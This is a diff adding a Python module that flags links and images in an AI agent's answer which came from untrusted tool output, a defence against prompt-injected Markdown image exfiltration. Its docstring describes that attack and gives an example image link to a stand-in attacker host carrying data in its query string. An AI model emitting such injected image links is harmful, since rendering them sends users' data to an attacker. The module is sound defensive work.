@@ -1,0 +1,114 @@
+"""The links and images of an answer that no person gave, and where they were read.
+
+Text from outside can have a model write `![](https://evil.example/?q=…)`: whoever shows the answer
+as Markdown then sends what stands behind the question mark. clew shows answers as text and fetches
+nothing; this is for who passes them on.
+"""
+
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass
+from typing import Any, Final
+from urllib.parse import unquote
+
+import msgspec
+
+from clew.core.events import Note, encode
+from clew.core.trajectory import Trajectory
+
+_ADDRESS: Final = re.compile(
+    r"(?:\b[a-z][a-z0-9+.-]{1,15}://|\bwww\.)[^\s<>\"'`\[\]{}|\\]{1,2000}", re.IGNORECASE
+)
+_IMAGE: Final = re.compile(
+    r"!\[[^\]]{0,1000}\]\(\s{0,9}<?([^\s<>)]{1,2000})"  # ![text](address)
+    r"|<[a-z]{1,20}\s[^<>]{0,500}?\b(?:src|data|poster)\s{0,9}=\s{0,9}[\"']?([^\s\"'<>]{1,2000})",
+    re.IGNORECASE,
+)
+_SCHEME: Final = re.compile(r"^(?:[a-z][a-z0-9+.-]*:)?/*(?:www\.)?")
+_HOST: Final = re.compile(r"[/?:]")
+_MARKS: Final = frozenset(".,;:!?*_")
+_NAMED: Final = re.compile(r"!\[[^\]]{0,1000}\](?!\()")
+"""An image whose address stands elsewhere in the text, by a name."""
+
+
+class OutsideLink(msgspec.Struct, frozen=True):
+    """A link of an answer that no person gave.
+
+    `call` is the first call that returned it (`step.index`), and `whole` is False where it returned
+    only its host. Without a call it stands in nothing that was read: the model made it up.
+    `image` says that whoever shows the answer as Markdown or HTML fetches it unasked.
+    """
+
+    address: str
+    call: str = ""
+    whole: bool = False
+    image: bool = False
+
+
+@dataclass(frozen=True, slots=True)
+class NoOutsideLinks:
+    """A check: no image in an answer that no person gave; with `links`, no link either."""
+
+    links: bool = False
+
+    async def __call__(self, answer: Any, so_far: Trajectory) -> str | None:
+        """What is wrong with the answer."""
+        found = [link for link in links_from_outside(answer, so_far) if self.links or link.image]
+        if not found:
+            return None
+        what = "a link or image" if self.links else "an image"
+        return f"the answer holds {what} that no person gave: leave out {found[0].address[:200]}"
+
+
+def links_from_outside(answer: Any, so_far: Trajectory) -> tuple[OutsideLink, ...]:
+    """The links and images of an answer that neither a person nor a trusted tool gave, in order."""
+    text = answer if isinstance(answer, str) else encode(answer).decode()
+    images = {found[1] or found[2]: True for found in _IMAGE.finditer(text)}
+    plain = [_ended(found[0]) for found in _ADDRESS.finditer(text)]
+    if not (addresses := dict.fromkeys(plain) | images):
+        return ()
+    named = _NAMED.search(text) is not None
+    own, read = _own(so_far), _read(so_far)
+    made = [_traced(address, own, read) for address in addresses]
+    return tuple(
+        msgspec.structs.replace(link, image=named or link.address in images)
+        for link in made
+        if link is not None
+    )
+
+
+def _ended(address: str) -> str:
+    """An address without the marks that follow it; a parenthesis that it opens is its own."""
+    while address[-1:] in _MARKS or (
+        address[-1:] == ")" and address.count(")") > address.count("(")
+    ):
+        address = address[:-1]
+    return address
+
+
+def _own(so_far: Trajectory) -> str:
+    """What a person said, and what trusted tools did."""
+    notes = (each.event for each in so_far.entries if isinstance(each.event, Note))
+    said = [so_far.goal, *(note.text for note in notes if note.source == "person")]
+    seen = (call.observation for call in so_far.calls)
+    said += [one.text for one in seen if one is not None and one.trust == "trusted"]
+    return "\n".join(said).lower()
+
+
+def _read(so_far: Trajectory) -> list[tuple[str, str]]:
+    """What calls returned from outside, by their keys."""
+    seen = ((call.key, call.observation) for call in so_far.calls)
+    return [
+        (key, one.text.lower()) for key, one in seen if one is not None and one.trust != "trusted"
+    ]
+
+
+def _traced(address: str, own: str, read: Sequence[tuple[str, str]]) -> OutsideLink | None:
+    """Where an address was read; None where it is a person's own."""
+    bare = _SCHEME.sub("", unquote(address).lower()).partition("#")[0].rstrip("/")
+    host = _HOST.split(bare, maxsplit=1)[0]
+    whole = next((key for key, text in read if bare in text), "")
+    if bare in own or (not whole and host in own):
+        return None
+    call = whole or next((key for key, text in read if host in text), "")
+    return OutsideLink(address, call, whole=bool(whole))
